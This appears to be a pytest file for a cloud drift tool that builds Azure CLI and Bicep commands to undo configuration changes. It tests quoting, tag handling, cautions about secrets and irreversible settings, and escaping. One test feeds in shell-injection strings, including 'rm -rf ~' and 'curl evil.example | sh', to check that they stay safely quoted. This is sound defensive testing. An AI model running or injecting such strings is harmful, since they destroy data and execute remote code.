"""The way back: commands that a shell reads as they were meant, and no promise that Azure would not keep."""

from __future__ import annotations

import json
import shlex
from dataclasses import replace
from datetime import UTC, datetime
from typing import Any

import pytest

from drift.engine.findings import Evidence, Finding, Status
from drift.engine.model import Change, ChangeKind, Severity, resource_key
from drift.engine.undo import DELETES, EMPTY, SECRET, bicep, irreversible, properties, undo

NOW = datetime(2026, 11, 1, tzinfo=UTC)
GROUP = "/subscriptions/1b4e28ba-2fa1-4d21-883f-0016d3cca427/resourceGroups/shop"
NETWORK = f"{GROUP}/providers/Microsoft.Network/networkSecurityGroups/web"


def finding(kind: ChangeKind, *changes: Change, resource_id: str = NETWORK) -> Finding:
    return Finding(
        "s.k",
        "s",
        resource_key(resource_id),
        resource_id,
        "microsoft.network/networksecuritygroups",
        kind,
        changes,
        Severity.HIGH,
        Status.OPEN,
        Evidence.CONFIRMED,
        "b",
        "",
        "",
        NOW,
        NOW,
        None,
        "",
        None,
        "",
        (),
        1,
    )


def modified(path: str, before: Any, after: Any) -> Finding:
    return finding(ChangeKind.MODIFIED, Change(path, ChangeKind.MODIFIED, before, after))


def words(one: Finding, baseline: Any = None) -> list[list[str]]:
    return [shlex.split(step.command) for step in undo(one, baseline)]


def test_a_property_is_set_to_what_was_agreed() -> None:
    one = modified("/properties/httpsOnly", True, False)
    assert words(one) == [
        ["az", "resource", "update", "--ids", NETWORK, "--set", "properties.httpsOnly=true"]
    ]


def test_a_property_that_was_not_there_is_removed() -> None:
    one = modified("/properties/cors", None, {"origins": ["*"]})
    assert words(one) == [
        ["az", "resource", "update", "--ids", NETWORK, "--remove", "properties.cors"]
    ]


def test_an_item_goes_back_with_its_whole_array() -> None:
    rules = [{"name": "ssh", "source": "10.0.0.0/8"}, {"name": "web", "source": "*"}]
    one = modified("/properties/securityRules/[name=ssh]/source", "10.0.0.0/8", "*")
    (command,) = words(one, {"properties": {"securityRules": rules}})
    name, _, value = command[-1].partition("=")
    assert (name, json.loads(value)) == ("properties.securityRules", rules)


def test_without_the_baseline_no_array_is_guessed() -> None:
    assert undo(modified("/properties/securityRules/[name=ssh]/source", "a", "b"), None) == []


def test_tags_have_a_command_of_their_own() -> None:
    changed = Change("/tags/cost~1centre", ChangeKind.MODIFIED, "CC 1", "CC 2")
    added = Change("/tags/team", ChangeKind.ADDED, None, "blue")
    merge, delete = words(finding(ChangeKind.MODIFIED, changed, added))
    assert merge[3:] == [
        "--resource-id",
        NETWORK,
        "--operation",
        "Merge",
        "--tags",
        "cost/centre=CC 1",
    ]
    assert delete[3:] == ["--resource-id", NETWORK, "--operation", "Delete", "--tags", "team=blue"]


def test_what_is_in_names_and_values_stays_one_word() -> None:
    hostile = f"{GROUP}/providers/Microsoft.Web/sites/x'; rm -rf ~ #$(id)`id`\n"
    value = "'\"; curl evil.example | sh; $(id) \u202e"
    change = Change("/properties/note", ChangeKind.MODIFIED, value, "b")
    (command,) = words(finding(ChangeKind.MODIFIED, change, resource_id=hostile))
    assert command[4] == hostile.strip("\n")
    assert json.loads(command[6].partition("=")[2]) == value
    assert command[6].isascii()


def test_a_name_that_az_cannot_say_is_set_with_what_holds_it() -> None:
    one = modified("/properties/settings/my.key", "a", "b")
    (command,) = words(one, {"properties": {"settings": {"my.key": "a", "other": 1}}})
    assert command[-1] == 'properties.settings={"my.key":"a","other":1}'


def test_additions_and_removals_say_what_they_cost() -> None:
    (delete,) = undo(finding(ChangeKind.ADDED), None)
    assert delete.command == f"az resource delete --ids {NETWORK}"
    assert delete.cautions == (DELETES,)
    (create,) = undo(finding(ChangeKind.REMOVED), {"properties": {"key": "hmac:" + "0" * 32}})
    assert create.cautions == (EMPTY, SECRET)


def test_a_secret_is_never_said_to_be_there() -> None:
    (step,) = undo(
        modified("/properties/adminPassword", "hmac:" + "0" * 32, "hmac:" + "1" * 32), None
    )
    assert SECRET in step.cautions


def test_what_azure_does_not_set_back_is_said() -> None:
    (step,) = undo(modified("/location", "westeurope", "northeurope"), None)
    assert "another region" in step.cautions[0]
    assert irreversible("Microsoft.KeyVault/vaults", "/properties/enablePurgeProtection")
    assert irreversible("microsoft.web/sites", "/properties/enablePurgeProtection") == ""
    assert irreversible("microsoft.web/sites", "/locations") == ""


def test_body_holds_what_differs_and_nothing_else() -> None:
    baseline = {"name": "web", "tags": {"a": "1"}, "properties": {"x": 1, "y": {"z": [1]}}}
    one = finding(
        ChangeKind.MODIFIED,
        Change("/properties/y/z/0", ChangeKind.MODIFIED, 1, 2),
        Change("/tags/a", ChangeKind.MODIFIED, "1", "2"),
    )
    assert properties(one, baseline) == {"properties": {"y": {"z": [1]}}, "tags": {"a": "1"}}
    assert properties(replace(one, kind=ChangeKind.REMOVED), baseline) == baseline
    assert properties(replace(one, kind=ChangeKind.ADDED), None) is None


@pytest.mark.parametrize(
    ("value", "text"),
    [
        ("it's ${x} \\", "'it\\'s \\${x} \\\\'"),
        (True, "true"),
        (1.5, "json('1.5')"),
        (None, "null"),
        ([], "[]"),
    ],
)
def test_bicep_escapes_what_would_be_code(value: Any, text: str) -> None:
    said = bicep(modified("/properties/a", value, 2), {"properties": {"a": value, "b-c": 1}})
    assert f"    a: {text}\n" in said
    assert "    'b-c': 1\n" in said
    assert said.startswith(
        "resource drifted 'microsoft.network/networksecuritygroups@API-VERSION' = {\n  name: 'web'\n"
    )
